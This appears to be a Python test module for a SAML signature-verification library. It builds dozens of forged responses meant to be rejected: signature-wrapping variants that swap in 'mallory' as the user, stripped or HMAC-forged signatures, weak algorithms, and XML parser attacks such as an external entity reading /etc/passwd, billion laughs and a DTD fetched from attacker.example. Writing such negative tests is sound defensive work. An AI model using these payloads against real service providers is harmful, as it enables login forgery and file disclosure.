"""What an attacker makes of a genuine response: each function takes one and returns a document nobody may believe."""

import copy
from collections.abc import Callable
from types import FunctionType
from typing import Any

import xmlsec
from lxml import etree

import samlcrypto
from samlcrypto.signatures import RESPONSE_NODE
from tests.samlcrypto.documents import DS, SAML, SAMLP, Genuine, certificate, pem, text

ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#"


def _evil(assertion: Any, identifier: str = "_evil") -> Any:
    """A copy that speaks of somebody else, without a signature."""
    forged = copy.deepcopy(assertion)
    forged.set("ID", identifier)
    forged.find(f"{SAML}Subject/{SAML}NameID").text = "mallory@acme.example"
    signature = forged.find(f"{DS}Signature")
    if signature is not None:
        forged.remove(signature)
    return forged


def tampered_name(genuine: Genuine) -> str:
    document = genuine.root()
    document.find(f".//{SAML}NameID").text = "mallory@acme.example"
    return text(document)


def tampered_attribute(genuine: Genuine) -> str:
    return genuine.text().replace("Engineering", "Management")


def stripped(genuine: Genuine) -> str:
    document = genuine.root()
    for signature in document.findall(f".//{DS}Signature"):
        signature.getparent().remove(signature)
    return text(document)


def evil_before_original(genuine: Genuine) -> str:
    """XSW: the forged assertion first, the signed one after it."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    original.addprevious(_evil(original))
    return text(document)


def evil_after_original(genuine: Genuine) -> str:
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    original.addnext(_evil(original))
    return text(document)


def evil_wraps_original(genuine: Genuine) -> str:
    """XSW: the signed assertion inside the forged one."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    forged = _evil(original)
    document.replace(original, forged)
    forged.append(original)
    return text(document)


def evil_with_the_signature_and_the_original_in_an_object(genuine: Genuine) -> str:
    """XSW: the forged assertion carries the signature, which carries the original."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    forged = _evil(original)
    signature = original.find(f"{DS}Signature")
    original.remove(signature)
    holder = etree.SubElement(signature, f"{DS}Object")
    holder.append(original)
    forged.insert(1, signature)
    document.append(forged)
    return text(document)


def same_id_on_both(genuine: Genuine) -> str:
    """The forged assertion takes the signed one's ID and its signature."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    forged = _evil(original, "_assertion")
    forged.insert(1, copy.deepcopy(original.find(f"{DS}Signature")))
    original.addprevious(forged)
    return text(document)


def same_id_as_xml_id(genuine: Genuine) -> str:
    """libxml2 knows xml:id by itself: a Reference could be resolved to another element than the one looked at."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    holder = etree.SubElement(document, f"{SAMLP}Extensions")
    hidden = etree.SubElement(holder, "hidden")
    hidden.set("{http://www.w3.org/XML/1998/namespace}id", "_assertion")
    original.find(f"{SAML}Subject/{SAML}NameID").text = "mallory@acme.example"
    return text(document)


def original_in_extensions(genuine: Genuine) -> str:
    """XSW: the signed assertion moved into the response's extensions, the forged one in its place."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    forged = _evil(original)
    document.replace(original, forged)
    holder = etree.Element(f"{SAMLP}Extensions")
    holder.append(original)
    document.insert(1, holder)
    return text(document)


def response_in_response(genuine: Genuine) -> str:
    """XSW: the whole signed response inside a forged one."""
    inner = genuine.root()
    outer = etree.Element(inner.tag, nsmap=inner.nsmap)
    for name, value in inner.attrib.items():
        outer.set(name, value)
    outer.set("ID", "_outer")
    outer.append(_evil(inner.find(f"{SAML}Assertion")))
    holder = etree.SubElement(outer, f"{SAMLP}Extensions")
    holder.append(inner)
    return text(outer)


def detached_signature(genuine: Genuine) -> str:
    """The assertion's signature moved to the response, where it refers to another element than its parent."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    if genuine.response_signed:
        document.remove(document.find(f"{DS}Signature"))
    document.insert(1, original.find(f"{DS}Signature"))
    return text(document)


def two_references(genuine: Genuine) -> str:
    document = genuine.root()
    for signature in document.findall(f".//{DS}Signature"):
        info = signature.find(f"{DS}SignedInfo")
        info.append(copy.deepcopy(info.find(f"{DS}Reference")))
    return text(document)


def whole_document_reference(genuine: Genuine) -> str:
    document = genuine.root()
    for reference in document.findall(f".//{DS}Reference"):
        reference.set("URI", "")
    return text(document)


def foreign_key_with_its_own_certificate(genuine: Genuine) -> str:
    return genuine.text("attacker")


def _with_algorithm(genuine: Genuine, path: str, algorithm: str) -> str:
    document = genuine.root()
    for element in document.findall(f".//{path}"):
        element.set("Algorithm", algorithm)
    return text(document)


def hmac_with_the_public_key(genuine: Genuine) -> str:
    """The public key, which everybody knows, as the secret of an HMAC."""
    document = etree.fromstring(
        _with_algorithm(genuine, f"{DS}SignatureMethod", "http://www.w3.org/2000/09/xmldsig#hmac-sha1").encode()
    )
    xmlsec.tree.add_ids(document, ["ID"])
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_binary_data(xmlsec.constants.KeyDataHmac, certificate())
    context.sign(document.find(f"{SAML}Assertion/{DS}Signature"))
    return text(document)


def sha1_signature(genuine: Genuine) -> str:
    return _with_algorithm(genuine, f"{DS}SignatureMethod", "http://www.w3.org/2000/09/xmldsig#rsa-sha1")


def sha1_digest(genuine: Genuine) -> str:
    return _with_algorithm(genuine, f"{DS}DigestMethod", "http://www.w3.org/2000/09/xmldsig#sha1")


def inclusive_canonicalisation(genuine: Genuine) -> str:
    return _with_algorithm(genuine, f"{DS}CanonicalizationMethod", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")


def xslt_transform(genuine: Genuine) -> str:
    document = genuine.root()
    for transforms in document.findall(f".//{DS}Transforms"):
        added = etree.SubElement(transforms, f"{DS}Transform")
        added.set("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
    return text(document)


def xpath_in_place_of_a_transform(genuine: Genuine) -> str:
    document = genuine.root()
    for transform in document.findall(f".//{DS}Transform[2]"):
        transform.set("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
    return text(document)


def doctype(genuine: Genuine) -> str:
    return '<!DOCTYPE r [<!ENTITY e "x">]>' + genuine.text()


def external_entity(genuine: Genuine) -> str:
    document = genuine.text().replace("ana@acme.example", "&e;")
    return '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + document


def billion_laughs(genuine: Genuine) -> str:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    return f'<!DOCTYPE r [<!ENTITY e0 "ha">{entities}]>' + genuine.text().replace("ana@acme.example", "&e8;")


def too_long(genuine: Genuine) -> str:
    return genuine.text().replace("</", f"<!-- {'x' * 300_000} --></", 1)


def truncated(genuine: Genuine) -> str:
    return genuine.text()[:-30]


def empty(genuine: Genuine) -> str:
    return ""


def second_assertion_with_the_same_id(genuine: Genuine) -> str:
    """XSW: the forged assertion first, without a signature, and with the signed one's ID."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    original.addprevious(_evil(original, original.get("ID")))
    return text(document)


def evil_subject_wraps_original(genuine: Genuine) -> str:
    """XSW: the signed assertion inside the forged one's subject."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    forged = _evil(original)
    document.replace(original, forged)
    forged.find(f"{SAML}Subject").append(original)
    return text(document)


def evil_with_the_id_the_signature_and_the_original_in_an_object(genuine: Genuine) -> str:
    """XSW: as with an Object above, and the forged assertion has the signed one's ID too."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    signature = original.find(f"{DS}Signature")
    forged = _evil(original, original.get("ID"))
    document.replace(original, forged)
    forged.insert(1, signature)
    etree.SubElement(signature, f"{DS}Object").append(original)
    return text(document)


def evil_after_extensions_with_the_original(genuine: Genuine) -> str:
    """XSW: the signed assertion at the top of the extensions, the forged one at the end."""
    document = genuine.root()
    original = document.find(f"{SAML}Assertion")
    forged = _evil(original)
    holder = etree.Element(f"{SAMLP}Extensions")
    holder.append(original)
    document.insert(1, holder)
    document.append(forged)
    return text(document)


def detached_signature_of_a_tampered_assertion(genuine: Genuine) -> str:
    """The assertion's signature beside the response's, and another name in the assertion."""
    document = genuine.root()
    document.insert(1, document.find(f"{SAML}Assertion/{DS}Signature"))
    document.find(f".//{SAML}NameID").text = "mallory@acme.example"
    return text(document)


def same_id_in_another_spelling(genuine: Genuine) -> str:
    """Not an ID for xmlsec, but perhaps for whoever reads the document next."""
    document = genuine.root()
    holder = etree.Element(f"{SAMLP}Extensions")
    etree.SubElement(holder, "{urn:example}hidden").set("{urn:example}iD", "_assertion")
    document.insert(1, holder)
    return text(document)


def foreign_key_without_key_info(genuine: Genuine) -> str:
    document = genuine.root("attacker")
    for signature in document.findall(f".//{DS}Signature"):
        signature.remove(signature.find(f"{DS}KeyInfo"))
    return text(document)


def really_signed_with_sha1(genuine: Genuine) -> str:
    """By the provider's own key: nothing is wrong with the signature but its algorithms."""
    return _signed_anew(
        genuine,
        {
            "SignatureMethod": "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
            "DigestMethod": "http://www.w3.org/2000/09/xmldsig#sha1",
        },
    )


def really_signed_with_comments(genuine: Genuine) -> str:
    """By the provider's own key: comments are dropped while reading, so nothing may count them."""
    return _signed_anew(genuine, {"CanonicalizationMethod": f"{EXCLUSIVE}WithComments"})


def _signed_anew(genuine: Genuine, algorithms: dict[str, str]) -> str:
    """The assertion, signed by xmlsec itself with other algorithms; the response without a signature."""
    document = genuine.root()
    if genuine.response_signed:
        document.remove(document.find(f"{DS}Signature"))
    assertion = document.find(f"{SAML}Assertion")
    signature = assertion.find(f"{DS}Signature")
    for name, algorithm in algorithms.items():
        signature.find(f".//{DS}{name}").set("Algorithm", algorithm)
    context = xmlsec.SignatureContext()
    context.key = xmlsec.Key.from_memory(pem("provider"), xmlsec.constants.KeyDataFormatPem)
    context.register_id(assertion, "ID")
    context.sign(signature)
    return text(document)


def no_success(genuine: Genuine) -> str:
    document = genuine.root()
    document.find(f".//{SAMLP}StatusCode").set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
    return text(document)


def no_status(genuine: Genuine) -> str:
    document = genuine.root()
    document.remove(document.find(f"{SAMLP}Status"))
    return text(document)


def another_message(genuine: Genuine) -> str:
    document = genuine.root()
    document.tag = f"{SAMLP}LogoutResponse"
    return text(document)


def assertion_alone(genuine: Genuine) -> str:
    """As a document of its own, which exclusive canonicalisation allows: well signed, and no response."""
    return text(genuine.root().find(f"{SAML}Assertion"))


def broken_assertion_signature_in_a_signed_response(genuine: Genuine) -> str:
    document = Genuine(genuine.answer).root()
    value = document.find(f"{SAML}Assertion/{DS}Signature/{DS}SignatureValue")
    value.text = value.text.strip()[::-1].lstrip("=") + "=="
    return samlcrypto.sign(text(document), RESPONSE_NODE, pem("provider"))


def broken_response_signature(genuine: Genuine) -> str:
    document = Genuine(genuine.answer).root()
    document.set("IssueInstant", "2026-01-01T00:00:00Z")
    return text(document)


def signature_in_extensions(genuine: Genuine) -> str:
    document = genuine.root()
    holder = etree.SubElement(document, f"{SAMLP}Extensions")
    etree.SubElement(holder, "deeper").append(copy.deepcopy(document.find(f".//{DS}Signature")))
    return text(document)


def signature_in_the_issuer(genuine: Genuine) -> str:
    document = genuine.root()
    document.find(f"{SAML}Issuer").append(copy.deepcopy(document.find(f".//{DS}Signature")))
    return text(document)


def signature_alone(genuine: Genuine) -> str:
    return text(genuine.root().find(f".//{DS}Signature"))


def encrypted_beside(genuine: Genuine) -> str:
    document = genuine.root()
    etree.SubElement(document, f"{SAML}EncryptedAssertion")
    return text(document)


def encrypted_inside(genuine: Genuine) -> str:
    document = genuine.root()
    etree.SubElement(etree.SubElement(document, f"{SAMLP}Extensions"), f"{SAML}EncryptedAssertion")
    return text(document)


def _in_the_assertions_signature(genuine: Genuine, change: Callable[[Any], object]) -> str:
    document = genuine.root()
    change(document.find(f"{SAML}Assertion/{DS}Signature"))
    return text(document)


def object_in_a_signature(genuine: Genuine) -> str:
    return _in_the_assertions_signature(genuine, lambda signature: etree.SubElement(signature, f"{DS}Object"))


def reference_in_the_key_info(genuine: Genuine) -> str:
    return _in_the_assertions_signature(
        genuine, lambda signature: etree.SubElement(signature.find(f"{DS}KeyInfo"), f"{DS}Reference")
    )


def reference_outside_the_signed_info(genuine: Genuine) -> str:
    """The only one, so that counting all of them is not enough."""
    return _in_the_assertions_signature(
        genuine, lambda signature: signature.find(f"{DS}KeyInfo").append(signature.find(f".//{DS}Reference"))
    )


def without_an_id(genuine: Genuine) -> str:
    document = genuine.root()
    assertion = document.find(f"{SAML}Assertion")
    del assertion.attrib["ID"]
    assertion.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference").set("URI", "#None")
    return text(document)


def signed_twice(genuine: Genuine) -> str:
    return _in_the_assertions_signature(genuine, lambda signature: signature.addnext(copy.deepcopy(signature)))


def _transforms(genuine: Genuine, *algorithms: str) -> str:
    def change(signature: Any) -> None:
        parent = signature.find(f".//{DS}Transforms")
        parent[:] = [etree.Element(f"{DS}Transform", {"Algorithm": algorithm}) for algorithm in algorithms]

    return _in_the_assertions_signature(genuine, change)


def third_transform(genuine: Genuine) -> str:
    return _transforms(genuine, ENVELOPED, EXCLUSIVE, EXCLUSIVE)


def only_canonicalisation(genuine: Genuine) -> str:
    return _transforms(genuine, EXCLUSIVE)


def two_canonicalisations(genuine: Genuine) -> str:
    return _in_the_assertions_signature(
        genuine,
        lambda signature: signature[0].insert(0, copy.deepcopy(signature.find(f".//{DS}CanonicalizationMethod"))),
    )


def another_document(genuine: Genuine) -> str:
    return "<a/>"


def external_doctype(genuine: Genuine) -> str:
    return '<!DOCTYPE r SYSTEM "https://attacker.example/r.dtd">' + genuine.text()


def file_as_doctype(genuine: Genuine) -> str:
    return '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'


def nested_entities(genuine: Genuine) -> str:
    return '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'


def deeply_nested(genuine: Genuine) -> str:
    return "<a>" * 5000


def one_bracket(genuine: Genuine) -> str:
    return "<"


def no_text(genuine: Genuine) -> bytes:
    return b"\x00\x01"


# Those that are no message of SAML at all: what pysaml2 raises for them is not of its own kind.
NO_MESSAGE = (
    *("empty", "truncated", "deeply_nested", "one_bracket", "no_text"),
    *("another_document", "file_as_doctype", "assertion_alone", "signature_alone"),
)


ATTACKS: dict[str, Callable[[Genuine], str | bytes]] = {
    name: attack
    for name, attack in list(vars().items())
    if isinstance(attack, FunctionType) and attack.__module__ == __name__ and not name.startswith("_")
}
